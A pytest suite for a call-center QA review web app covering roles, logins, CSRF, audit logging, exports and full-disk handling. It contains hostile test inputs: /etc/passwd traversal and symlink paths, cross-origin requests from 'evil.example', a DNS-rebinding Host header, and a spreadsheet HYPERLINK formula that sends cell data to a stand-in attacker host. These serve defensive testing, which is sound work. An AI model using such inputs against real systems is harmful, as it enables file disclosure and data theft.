"""The review workspace over HTTP (uvicorn on loopback, real requests): roles, logins, CSRF, Origin and Host,
traversal and planted recordings, malformed requests, appeals and cases through their lifecycle, the audit
log, exports, and a full disk."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import httpx
import pytest
from workspacedata import (
    OTHER_TEAM_CALL,
    PASSWORD,
    TEAM_CALL,
    USERS,
    Site,
    changes,
    finding_key_of,
    login,
    make_site,
)

from results.files import write_json_atomic
from workspace.audit import AuditLog

BODY_TIMEOUT_S = 1.0


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    s = make_site(tmp_path_factory.mktemp("web"), body_timeout_s=BODY_TIMEOUT_S)
    yield s
    s.stop()


@pytest.fixture(scope="module")
def clients(site: Site) -> dict[str, httpx.Client]:
    return {role: site.client(role) for role in USERS}


# ---- who sees what ---------------------------------------------------------------------------------

PAGES = ["/", f"/calls/{TEAM_CALL}.html", f"/audio/{TEAM_CALL}", "/export.csv", "/cases", "/cases/stats",
         "/scorecard?week=2026-W47", "/clips", "/audit", "/admin/users", "/appeals", "/assignments"]
# role -> status of each page above (303: sent to the role's own home page)
EXPECTED = {
    "analyst":   [200, 200, 200, 200, 200, 403, 403, 403, 403, 403, 200, 200],
    "team_lead": [200, 200, 200, 200, 200, 403, 403, 403, 403, 403, 200, 403],
    "qa_lead":   [200, 200, 200, 200, 200, 200, 200, 200, 200, 403, 200, 200],
    "trainer":   [303, 403, 403, 403, 403, 403, 403, 200, 403, 403, 403, 403],
    "manager":   [303, 403, 403, 403, 403, 200, 200, 403, 403, 403, 403, 403],
    "admin":     [303, 403, 403, 403, 403, 403, 403, 403, 403, 200, 403, 403],
}


@pytest.mark.parametrize("role", list(EXPECTED))
def test_each_role_reaches_only_its_pages(clients: dict[str, httpx.Client], role: str) -> None:
    got = [clients[role].get(p).status_code for p in PAGES]
    assert got == EXPECTED[role], list(zip(PAGES, got, EXPECTED[role], strict=True))


def test_without_a_login_pages_redirect_and_data_is_refused(site: Site) -> None:
    c = site.client()
    r = c.get(f"/calls/{TEAM_CALL}.html")
    assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    for path in (f"/audio/{TEAM_CALL}", f"/api/reviews?call_id={TEAM_CALL}", "/clip?call_id=x&key=y"):
        assert c.get(path).status_code == 401, path
    assert c.post("/api/reviews", json={}).status_code == 401


def test_a_team_lead_sees_its_own_team_only(site: Site, clients: dict[str, httpx.Client]) -> None:
    lead = clients["team_lead"]
    for path in (f"/calls/{OTHER_TEAM_CALL}.html", f"/audio/{OTHER_TEAM_CALL}", f"/api/reviews?call_id={OTHER_TEAM_CALL}"):
        assert lead.get(path).status_code == 403, path
    rows = list(csv.DictReader(io.StringIO(lead.get("/export.csv?team=回访一组").text.lstrip("\ufeff"))))
    assert rows and {r["班组"] for r in rows} == {"回访二组"}  # the team asked for is overridden
    queue = lead.get("/").text
    assert OTHER_TEAM_CALL not in queue and TEAM_CALL in queue


def test_passwords_are_scrypt_hashes_and_sessions_are_stored_as_hashes(site: Site, clients: dict[str, httpx.Client]) -> None:
    db = sqlite3.connect(site.out / "workspace.sqlite3")
    hashes = [r[0] for r in db.execute("SELECT password_hash FROM users")]
    assert hashes and all(h.startswith("scrypt$16384$8$1$") and PASSWORD not in h for h in hashes)
    cookie = clients["analyst"].cookies["callqa_session"]
    stored = [r[0] for r in db.execute("SELECT token_hash FROM sessions")]
    assert cookie not in stored and len(stored[0]) == 64
    assert oct((site.out / "workspace.sqlite3").stat().st_mode & 0o777) == "0o600"
    c = site.client()
    form = c.get("/login")
    r = c.post("/login", data={"name": USERS["analyst"][0], "password": PASSWORD,
                               "login_token": form.cookies["callqa_login"]}, headers={"Origin": site.base})
    set_cookie = r.headers["set-cookie"].lower()
    assert r.status_code == 303 and "httponly" in set_cookie and "samesite=strict" in set_cookie


def test_login_attempts_are_throttled(site: Site) -> None:
    site.workspace.users.add("被试账号", "analyst", PASSWORD)
    c = site.client()
    statuses = []
    for _ in range(6):
        form = c.get("/login")
        statuses.append(c.post("/login", data={"name": "被试账号", "password": "wrong password", "login_token":
                                               form.cookies["callqa_login"]}, headers={"Origin": site.base}))
    assert [r.status_code for r in statuses] == [401] * 5 + [429]
    assert int(statuses[-1].headers["retry-after"]) > 0
    form = c.get("/login")  # the right password is refused too while throttled
    r = c.post("/login", data={"name": "被试账号", "password": PASSWORD, "login_token": form.cookies["callqa_login"]},
               headers={"Origin": site.base})
    assert r.status_code == 429
    with pytest.raises(AssertionError):
        login(site.client(), USERS["analyst"][0], "not the password")


def test_the_queue_narrows_to_a_period_and_audio_ranges_are_exact(site: Site, clients: dict[str, httpx.Client]) -> None:
    import datetime as dt
    import re

    from reportdata import FIXTURES

    from reports.queue import queue_frame
    from reports.tables import Filters, Tables

    analyst = clients["analyst"]
    for query, filters in (("week=2026-W47", Filters(week="2026-W47")), ("week=2026-W48", Filters(week="2026-W48")),
                           ("from=2026-11-19", Filters(date_from=dt.date(2026, 11, 19)))):
        page = analyst.get(f"/?{query}").text
        data = json.loads(re.search(r'id="queue-data">(.*?)</script>', page, re.S).group(1))
        assert [c["id"] for c in data["calls"]] == queue_frame(Tables(site.out), filters)["call_id"].to_list(), query
    r = analyst.get("/audio/stereo_clean", headers={"Range": "bytes=10-19"})
    assert r.status_code == 206 and r.content == (FIXTURES / "stereo_clean.wav").read_bytes()[10:20]
    size = (FIXTURES / "stereo_clean.wav").stat().st_size
    assert analyst.get("/audio/stereo_clean", headers={"Range": f"bytes={size + 10}-"}).status_code == 416


# ---- changes only from this site, with the session's token -----------------------------------------


def test_cross_site_and_tokenless_changes_are_refused(site: Site, clients: dict[str, httpx.Client]) -> None:
    analyst = clients["analyst"]
    key, _ = finding_key_of(site.out, TEAM_CALL, "rate.too_fast")
    body = {"call_id": TEAM_CALL, "finding_key": key, "rule": "rate.too_fast", "verdict": "false_positive"}
    before = len(site.workspace.decisions.history(TEAM_CALL))
    other_port = f"http://127.0.0.1:{site.server.port + 1}"
    attempts = [
        # a form on another site posting text/plain (a "simple request": no preflight)
        ({"Origin": "http://evil.example", "Content-Type": "text/plain"}, json.dumps(body), 403),
        ({"Origin": other_port, "Content-Type": "application/json", "X-CSRF-Token": analyst.csrf}, json.dumps(body), 403),
        ({"Origin": "null", "Content-Type": "application/json"}, json.dumps(body), 403),
        ({"Referer": "http://evil.example/page", "Content-Type": "application/json"}, json.dumps(body), 403),
        ({"Origin": site.base, "Content-Type": "application/json"}, json.dumps(body), 403),  # no CSRF token
        ({"Origin": site.base, "Content-Type": "application/json", "X-CSRF-Token": "wrong"}, json.dumps(body), 403),
        ({"Origin": site.base, "Content-Type": "text/plain", "X-CSRF-Token": analyst.csrf}, json.dumps(body), 415),
    ]
    for headers, data, status in attempts:
        r = analyst.post("/api/reviews", content=data.encode(), headers=headers)
        assert r.status_code == status, (headers, r.status_code, r.text)
    assert len(site.workspace.decisions.history(TEAM_CALL)) == before
    # a login form posted from elsewhere, or without its token
    c = site.client()
    assert c.post("/login", data={"name": USERS["qa_lead"][0], "password": PASSWORD},
                  headers={"Origin": "http://evil.example"}).status_code == 403
    assert c.post("/login", data={"name": USERS["qa_lead"][0], "password": PASSWORD},
                  headers={"Origin": site.base}).status_code == 403
    # DNS rebinding: the page's own name in the Host header
    r = analyst.get(f"/audio/{TEAM_CALL}", headers={"Host": "rebind.evil.example"})
    assert r.status_code == 400
    # the right token from this origin works
    r = analyst.post("/api/reviews", json={**body, "verdict": "confirmed"}, headers=changes(analyst))
    assert r.status_code == 201 and r.json()["reviewer"] == USERS["analyst"][0]


def test_security_headers(clients: dict[str, httpx.Client]) -> None:
    r = clients["analyst"].get(f"/calls/{TEAM_CALL}.html")
    assert "script-src 'nonce-" in r.headers["content-security-policy"]
    assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["cross-origin-resource-policy"] == "same-origin" and r.headers["cache-control"] == "no-store"
    nonce = r.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert f'<script nonce="{nonce}">' in r.text


# ---- recordings: only from the recordings folder ---------------------------------------------------


def plant(site: Site, call_id: str, recording: str) -> None:
    result = json.loads((site.out / "results" / f"{TEAM_CALL}.json").read_text(encoding="utf-8"))
    write_json_atomic(site.out / "results" / f"{call_id}.json", dict(result, call_id=call_id, recording=recording))


def test_a_planted_recording_path_is_refused(site: Site, clients: dict[str, httpx.Client], tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.wav"
    outside.write_bytes((site.out.parent / "out" / "results" / f"{TEAM_CALL}.json").read_bytes())
    link_dir = tmp_path / "links"
    link_dir.mkdir()
    (link_dir / "x.wav").symlink_to("/etc/passwd")
    for call_id, recording in (("planted_passwd", "/etc/passwd"), ("planted_outside", str(outside)),
                               ("planted_relative", "../../../../../../etc/passwd"),
                               ("planted_link", str(link_dir / "x.wav"))):
        plant(site, call_id, recording)
        r = clients["qa_lead"].get(f"/audio/{call_id}")
        assert r.status_code == 403, (call_id, r.status_code)
        assert "root:" not in r.text and str(tmp_path) not in r.text and "/etc" not in r.text
    for path in ("/audio/..%2F..%2F..%2Fetc%2Fpasswd", "/calls/..%2F..%2Fetc%2Fpasswd.html", "/audio/%00"):
        r = clients["qa_lead"].get(path)
        assert r.status_code in (400, 404) and "root:" not in r.text, path


def test_a_symbolic_link_inside_the_recordings_folder_to_a_file_outside_is_refused(site: Site, tmp_path: Path) -> None:
    from fastapi import HTTPException

    from webapp.calls import recording_file
    from webapp.settings import WebSettings

    root = tmp_path / "recordings"
    root.mkdir()
    (root / "call.wav").symlink_to("/etc/passwd")
    (root / "real.wav").write_bytes(b"RIFF")
    st = type("S", (), {"settings": WebSettings(site.out, "", root)})()
    with pytest.raises(HTTPException) as refused:
        recording_file(st, {"call_id": "c", "recording": str(root / "call.wav")})  # type: ignore[arg-type]
    assert refused.value.status_code == 403
    path, kind = recording_file(st, {"call_id": "c", "recording": str(root / "real.wav")})  # type: ignore[arg-type]
    assert path == (root / "real.wav").resolve() and kind == "audio/wav"


def test_every_audio_request_is_an_audit_row(site: Site, clients: dict[str, httpx.Client]) -> None:
    qa = clients["qa_lead"]
    log = AuditLog(site.workspace.db)
    before = log.count("audio")
    ranges = ["bytes=0-99", "bytes=100-199", "bytes=-50", "bytes=1000-"]
    for rng in ranges:
        r = qa.get(f"/audio/{TEAM_CALL}", headers={"Range": rng})
        assert r.status_code == 206 and r.headers["content-range"].startswith("bytes ")
    assert qa.get(f"/audio/{TEAM_CALL}").status_code == 200
    assert clients["trainer"].get(f"/audio/{TEAM_CALL}").status_code == 403  # refused: no recording went out
    rows = list(log.rows(action="audio", limit=5))
    assert log.count("audio") == before + 5
    assert [r.detail for r in rows][:5] == ["whole", *reversed(ranges)]
    assert {(r.user, r.role, r.target, r.ip) for r in rows} == {(USERS["qa_lead"][0], "qa_lead", TEAM_CALL, "127.0.0.1")}
    for statement in ("DELETE FROM audit", "UPDATE audit SET user = 'x'"):
        db = sqlite3.connect(site.out / "workspace.sqlite3")
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            db.execute(statement)
        db.close()
    export = qa.get("/audit.csv?action=audio").text.lstrip("\ufeff")
    assert len(list(csv.DictReader(io.StringIO(export)))) == log.count("audio")


# ---- malformed requests ----------------------------------------------------------------------------


def raw(site: Site, data: bytes, wait: float = 5.0) -> bytes:
    with socket.create_connection(("127.0.0.1", site.server.port), timeout=wait) as s:
        s.sendall(data)
        chunks = []
        try:
            while chunk := s.recv(65536):
                chunks.append(chunk)
                if b"\r\n\r\n" in b"".join(chunks) and len(chunks) > 1:
                    break
        except TimeoutError:
            pass
    return b"".join(chunks)


def test_malformed_requests_are_answered_not_crashed(site: Site, clients: dict[str, httpx.Client]) -> None:
    host = f"Host: 127.0.0.1:{site.server.port}\r\n".encode()
    assert raw(site, b"GARBAGE\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(site, b"GET / HTTP/1.1\r\n" + host + b"no colon here\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(site, b"POST /api/reviews HTTP/1.1\r\n" + host + b"Content-Length: abc\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(site, b"POST /api/reviews HTTP/1.1\r\n" + host + b"Content-Length: 1000000000\r\n\r\n").startswith(
        b"HTTP/1.1 413")
    # a body shorter than its Content-Length: answered 408 once the body stops coming, the rest go on
    analyst = clients["analyst"]
    cookie = f"Cookie: callqa_session={analyst.cookies['callqa_session']}\r\n".encode()
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", site.server.port), timeout=10) as s:
        s.sendall(b"POST /api/reviews HTTP/1.1\r\n" + host + cookie + b"Content-Type: application/json\r\n"
                  b"X-CSRF-Token: " + analyst.csrf.encode() + b"\r\nContent-Length: 100\r\n\r\n{\"call_id\"")
        assert analyst.get("/healthz").status_code == 200  # not blocked by the stalled body
        answer = s.recv(65536)
    assert answer.startswith(b"HTTP/1.1 408") and time.monotonic() - started < BODY_TIMEOUT_S + 5
    key, _ = finding_key_of(site.out, TEAM_CALL, "rate.too_fast")
    good = {"call_id": TEAM_CALL, "finding_key": key, "rule": "rate.too_fast", "verdict": "confirmed"}
    for body, status in ((b"{not json", 400), (b"[1, 2]", 400), (b"\xff\xfe", 400),
                         (json.dumps({**good, "finding_key": 5}).encode(), 400),
                         (json.dumps({**good, "verdict": "maybe"}).encode(), 400),
                         (json.dumps({**good, "call_id": "no_such_call"}).encode(), 404),
                         (json.dumps({**good, "comment": ["x"]}).encode(), 400),
                         (json.dumps({**good, "comment": "长" * 70000}).encode(), 413)):
        r = analyst.post("/api/reviews", content=body, headers={**changes(analyst), "Content-Type": "application/json"})
        assert r.status_code == status, (body[:40], r.status_code, r.text)
        assert "error" in r.json()
    for path, status in (("/?week=47", 400), ("/?from=yesterday", 400), ("/export.pdf", 404), ("/cases/abc", 400),
                         ("/cases/99999", 404), ("/nope", 404), ("/api/appeals/1/ruling", 405)):
        r = clients["qa_lead"].get(path)
        assert r.status_code == status, (path, r.status_code)
    assert clients["qa_lead"].post("/cases/1/move", content=b"\xff=\xfe", headers={
        **changes(clients["qa_lead"]), "Content-Type": "application/x-www-form-urlencoded"}).status_code == 400
    assert analyst.get("/healthz").status_code == 200


def test_error_pages_name_no_server_path(site: Site, clients: dict[str, httpx.Client]) -> None:
    (site.out / "results" / "broken_call.json").write_text("{broken", encoding="utf-8")
    secrets = (str(site.out), str(site.out.parent), "Traceback", ".py\"", "/work/", "site-packages")
    for c, path in ((clients["qa_lead"], "/calls/no_such_call.html"), (clients["qa_lead"], "/audio/no_such_call"),
                    (clients["qa_lead"], "/calls/broken_call.html"), (clients["qa_lead"], "/api/reviews?call_id=broken_call"),
                    (clients["qa_lead"], "/scorecard?week=2030-W01"), (clients["qa_lead"], "/?week=2026-W99"),
                    (clients["trainer"], f"/audio/{TEAM_CALL}")):
        r = c.get(path)
        assert r.status_code >= 400, path
        for secret in secrets:
            assert secret not in r.text, (path, secret, r.text[:300])


# ---- appeals and cases through their lifecycle ----------------------------------------------------


def test_an_appeal_goes_from_the_team_lead_to_the_qa_leads_final_ruling(site: Site, clients: dict[str, httpx.Client]) -> None:
    lead, analyst, qa = clients["team_lead"], clients["analyst"], clients["qa_lead"]
    key, result = finding_key_of(site.out, TEAM_CALL, "handling.no_soothing")
    finding = {"call_id": TEAM_CALL, "finding_key": key, "rule": "handling.no_soothing",
               "run_id": result["scoring"]["run_id"]}
    assert analyst.post("/api/appeals", json={**finding, "reason": "x"}, headers=changes(analyst)).status_code == 403
    other_key, _ = finding_key_of(site.out, "stereo_agent_right_issues", "forbidden.vague")
    assert lead.post("/api/appeals", json={"call_id": "stereo_agent_right_issues", "finding_key": other_key,
                                           "rule": "forbidden.vague", "reason": "x"},
                     headers=changes(lead)).status_code == 403  # not the lead's team
    assert lead.post("/api/appeals", json={**finding, "reason": "  "}, headers=changes(lead)).status_code == 400
    r = lead.post("/api/appeals", json={**finding, "reason": "客户先平静下来了，坐席已安抚"}, headers=changes(lead))
    assert r.status_code == 201, r.text
    appeal = r.json()
    assert appeal["status"] == "pending" and appeal["filed_by"] == USERS["team_lead"][0] and appeal["team"] == "回访二组"
    assert lead.post("/api/appeals", json={**finding, "reason": "again"}, headers=changes(lead)).status_code == 409
    # under appeal: no analyst decision; only the QA lead rules
    assert analyst.post("/api/reviews", json={**finding, "verdict": "confirmed"}, headers=changes(analyst)).status_code == 409
    for who in (analyst, lead):
        assert who.post(f"/api/appeals/{appeal['id']}/ruling", json={"outcome": "upheld"},
                        headers=changes(who)).status_code == 403
    state = analyst.get(f"/api/reviews?call_id={TEAM_CALL}").json()
    assert next(a for a in state["appeals"] if a["id"] == appeal["id"])["finding_key"] == key
    assert next(f for f in state["findings"] if f["finding_key"] == key)["verdict"] == "appeal"
    r = qa.post(f"/api/appeals/{appeal['id']}/ruling", json={"outcome": "upheld", "ruling": "录音中已安抚"},
                headers=changes(qa))
    assert r.status_code == 200, r.text
    assert r.json()["appeal"]["status"] == "upheld" and r.json()["decision"]["verdict"] == "false_positive"
    # final: no second ruling, no analyst decision after it
    assert qa.post(f"/api/appeals/{appeal['id']}/ruling", json={"outcome": "rejected"},
                   headers=changes(qa)).status_code == 409
    assert analyst.post("/api/reviews", json={**finding, "verdict": "confirmed"}, headers=changes(analyst)).status_code == 409
    state = analyst.get(f"/api/reviews?call_id={TEAM_CALL}").json()
    assert next(f for f in state["findings"] if f["finding_key"] == key)["verdict"] == "false_positive"
    actions = [r.action for r in site.workspace.audit.rows(target=TEAM_CALL, limit=10)]
    assert "ruling" in actions and "appeal" in actions
    # the appeals page's form rules too
    other, _ = finding_key_of(site.out, TEAM_CALL, "alert.complaint")
    second = lead.post("/api/appeals", json={**finding, "finding_key": other, "rule": "alert.complaint",
                                              "reason": "客户只是抱怨，未要求投诉"}, headers=changes(lead)).json()
    r = qa.post(f"/appeals/{second['id']}/ruling", data={"csrf_token": qa.csrf, "outcome": "rejected", "ruling": "客户明确说要投诉"},
                headers={"Origin": site.base})
    assert r.status_code == 303 and site.workspace.appeals.get(second["id"]).status == "rejected"
    # the reviewed score gives the rejected finding's points back
    from qa_checks import load_lexicon
    from reports.reviewed import reviewed_score

    reviewed = reviewed_score(result, site.workspace.decisions, load_lexicon(None))
    weight = next(f["weight"] for f in result["findings"] if f["rule"] == "handling.no_soothing")
    assert reviewed is not None and reviewed.false_alarms >= 1
    assert reviewed.score == pytest.approx(min(100.0, result["score"] + weight))


def test_a_case_goes_open_transferred_resolved_closed_with_its_history(site: Site, clients: dict[str, httpx.Client]) -> None:
    analyst, lead, qa = clients["analyst"], clients["team_lead"], clients["qa_lead"]
    assert lead.get("/cases").status_code == 200  # opens the cases of the scored calls
    case = next(c for c in site.workspace.cases.list() if c.call_id == TEAM_CALL and c.case_type == "complaint")
    assert (case.grade, case.status, case.owner, case.team) == ("紧急", "open", USERS["team_lead"][0], "回访二组")
    opened = time.strptime(case.opened_at[:19], "%Y-%m-%dT%H:%M:%S")
    due = time.strptime(case.respond_by[:19], "%Y-%m-%dT%H:%M:%S")
    assert time.mktime(due) - time.mktime(opened) == 24 * 3600

    def move(c: httpx.Client, to: str, **fields: str) -> httpx.Response:
        return c.post(f"/cases/{case.id}/move", data={"csrf_token": c.csrf, "to": to, **fields},
                      headers={"Origin": site.base})

    assert move(lead, "transferred").status_code == 403  # a team lead replies; the QA side transfers
    r = move(analyst, "transferred", handler="业务员 A023", note="请联系客户处理投诉")
    assert r.status_code == 303
    transferred = site.workspace.cases.get(case.id)
    assert transferred.status == "transferred" and transferred.handler == "业务员 A023" and transferred.reply_by
    assert move(lead, "resolved").status_code == 409  # a reply needs what was done
    assert move(lead, "resolved", note="已致电客户并道歉，客户满意").status_code == 303
    assert move(lead, "closed").status_code == 403
    assert move(analyst, "closed", note="回访确认").status_code == 303
    closed = site.workspace.cases.get(case.id)
    assert closed.status == "closed" and closed.on_time() is True and closed.resolution == "已致电客户并道歉，客户满意"
    history = site.workspace.cases.history(case.id)
    assert [(e.from_status, e.to_status) for e in history] == [
        (None, "open"), ("open", "transferred"), ("transferred", "resolved"), ("resolved", "closed")]
    assert move(qa, "open").status_code == 409  # closed is final
    assert move(qa, "lost").status_code == 400
    page = lead.get(f"/cases/{case.id}").text
    assert "已结案" in page and "已致电客户并道歉" in page
    # the other team's cases are not the lead's
    other = next((c for c in site.workspace.cases.list() if c.team != "回访二组"), None)
    if other is not None:
        assert lead.get(f"/cases/{other.id}").status_code == 404


def test_the_transfer_list_is_excel_with_formulas_neutralised(site: Site, clients: dict[str, httpx.Client]) -> None:
    qa = clients["qa_lead"]
    r = qa.post("/api/cases", json={"call_id": "mono_clean", "case_type": "no_contract",
                                    "note": '=HYPERLINK("http://evil.example/?x="&A1,"点我")'}, headers=changes(qa))
    assert r.status_code == 201, r.text
    assert qa.post("/api/cases", json={"call_id": "mono_clean", "case_type": "no_contract", "note": "again"},
                   headers=changes(qa)).status_code == 409
    book = zipfile.ZipFile(io.BytesIO(qa.get("/cases/transfer.xlsx").content))
    sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    strings = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in book.namelist() else ""
    assert "<f>" not in sheet  # no cell is a formula
    assert "<t>'=HYPERLINK" in strings
    assert "未收到合同" in strings and "二级转办" in strings


def test_sampling_draws_assignments_and_an_analyst_finishes_one(site: Site, clients: dict[str, httpx.Client]) -> None:
    qa, analyst = clients["qa_lead"], clients["analyst"]
    form = {"csrf_token": qa.csrf, "week": "2026-W47"}
    assert qa.post("/assignments/draw", data=form, headers={"Origin": site.base}).status_code == 303
    drawn = site.workspace.sampling.list(week="2026-W47")
    failed = {"stereo_agent_right_issues"}  # every failed call, and at least one passed call per agent
    assert failed <= {a.call_id for a in drawn} and {a.agent_id for a in drawn} == {"A017", "A023", "A031"}
    assert qa.post("/assignments/draw", data=form, headers={"Origin": site.base}).status_code == 303
    assert len(site.workspace.sampling.list(week="2026-W47")) == len(drawn)  # the same draw adds nothing
    assert analyst.post("/assignments/draw", data={**form, "csrf_token": analyst.csrf},
                        headers={"Origin": site.base}).status_code == 403
    assert qa.post("/assignments/assign", data={**form, "evenly": "1"}, headers={"Origin": site.base}).status_code == 303
    given = site.workspace.sampling.list(week="2026-W47")
    analysts = [u.name for u in site.workspace.users.all() if u.role == "analyst"]
    loads = [sum(a.reviewer == name for a in given) for name in analysts]
    assert all(a.reviewer in analysts for a in given) and max(loads) - min(loads) <= 1  # evenly
    mine = site.workspace.sampling.list(reviewer=USERS["analyst"][0])
    assert analyst.post(f"/assignments/{mine[0].id}/done", data={"csrf_token": analyst.csrf},
                        headers={"Origin": site.base}).status_code == 303
    assert site.workspace.sampling.list(reviewer=USERS["analyst"][0], status="done")[0].id == mine[0].id


def test_the_live_scorecard_shows_reviewed_scores_and_cases(clients: dict[str, httpx.Client]) -> None:
    page = clients["manager"].get("/scorecard?week=2026-W47").text
    assert "复核后平均分" in page and "回访问题件" in page and "按时处理率" in page
    stats = clients["manager"].get("/cases/stats").text
    assert "回访二组" in stats and "5天以上" in stats


def test_trainer_clips_are_of_confirmed_findings_with_numbers_toned_out(site: Site, clients: dict[str, httpx.Client]) -> None:
    import numpy as np
    import soundfile as sf

    qa, trainer = clients["qa_lead"], clients["trainer"]
    key, result = finding_key_of(site.out, "stereo_agent_right_issues", "forbidden.vague")
    assert trainer.get(f"/clip?call_id=stereo_agent_right_issues&key={key}").status_code == 404  # not confirmed yet
    r = qa.post("/api/reviews", json={"call_id": "stereo_agent_right_issues", "finding_key": key,
                                      "rule": "forbidden.vague", "verdict": "confirmed"}, headers=changes(qa))
    assert r.status_code == 201
    page = trainer.get("/clips").text
    assert "forbidden.vague" in page
    r = trainer.get("/clip", params={"call_id": "stereo_agent_right_issues", "key": key})
    assert r.status_code == 200 and r.headers["content-type"] == "audio/wav"
    clip, rate = sf.read(io.BytesIO(r.content))
    f = next(x for x in result["findings"] if x["rule"] == "forbidden.vague")
    assert abs(len(clip) / rate - (min(f["end"], f["start"] + 30) + 3 - max(0, f["start"] - 3))) < 0.05
    assert np.abs(clip).max() > 0.01
    assert trainer.get("/audio/stereo_agent_right_issues").status_code == 403


# ---- a full disk -----------------------------------------------------------------------------------

_DISK_FULL_SERVER = r"""
import resource, signal, sys, time
sys.path.insert(0, sys.argv[3])
from pathlib import Path
from reportdata import FIXTURES
from webapp.app import create_app
from webapp.serve import ServerThread
from webapp.settings import WebSettings
out = Path(sys.argv[1])
server = ServerThread(create_app(WebSettings(out, sys.argv[2], FIXTURES))).start()
# from now on no file of this process may grow past 1 KiB: every write to the database fails, as on a full disk
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (1024, 1024))
print(server.port, flush=True)
time.sleep(120)
"""


@pytest.mark.skipif(not hasattr(os, "fork"), reason="resource limits are POSIX")
def test_a_full_disk_keeps_pages_readable_and_refuses_writes_cleanly(site: Site, tmp_path: Path) -> None:
    db_path = tmp_path / "full.sqlite3"
    from workspace.store import Workspace

    ws = Workspace.open(db_path)
    user = ws.users.add("满盘质检员", "qa_lead", PASSWORD)
    token, session = ws.users.start_session(user, "127.0.0.1")
    ws.close()
    script = tmp_path / "serve.py"
    script.write_text(_DISK_FULL_SERVER, encoding="utf-8")
    tests = Path(__file__).parent
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(tests.parent), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.Popen([sys.executable, str(script), str(site.out), str(db_path), str(tests)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        port = int(proc.stdout.readline())
        base = f"http://127.0.0.1:{port}"
        c = httpx.Client(base_url=base, cookies={"callqa_session": token}, timeout=30)
        for path in ("/", f"/calls/{TEAM_CALL}.html", f"/api/reviews?call_id={TEAM_CALL}", "/cases", "/appeals",
                     "/audit", "/scorecard?week=2026-W47"):
            assert c.get(path).status_code == 200, path
        key, _ = finding_key_of(site.out, TEAM_CALL, "rate.too_fast")
        r = c.post("/api/reviews", json={"call_id": TEAM_CALL, "finding_key": key, "rule": "rate.too_fast",
                                         "verdict": "confirmed"},
                   headers={"X-CSRF-Token": session.csrf, "Origin": base})
        assert r.status_code == 503 and "磁盘" in r.json()["error"]
        assert c.get(f"/audio/{TEAM_CALL}").status_code == 503  # an access the audit log cannot record is refused
        assert c.get("/").status_code == 200 and c.get("/healthz").status_code == 200
    finally:
        proc.kill()
        proc.wait()
    assert Workspace.open(db_path).decisions.all() == []  # nothing half-written
